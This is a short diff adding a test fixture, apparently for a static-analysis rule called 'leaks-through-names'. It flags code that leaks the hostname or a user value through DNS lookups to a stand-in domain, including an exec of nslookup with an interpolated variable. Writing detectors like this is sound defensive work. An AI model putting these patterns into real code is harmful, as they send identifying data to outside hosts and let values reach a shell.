@@ -1,0 +1,6 @@
+// ruleid: leaks-through-names
+dns.lookup(os.hostname() + ".c.example.test", done);
+// ruleid: leaks-through-names
+exec(`nslookup ${user}.c.example.test`);
+// ok: leaks-through-names
+dns.lookup("files.example.test", done);
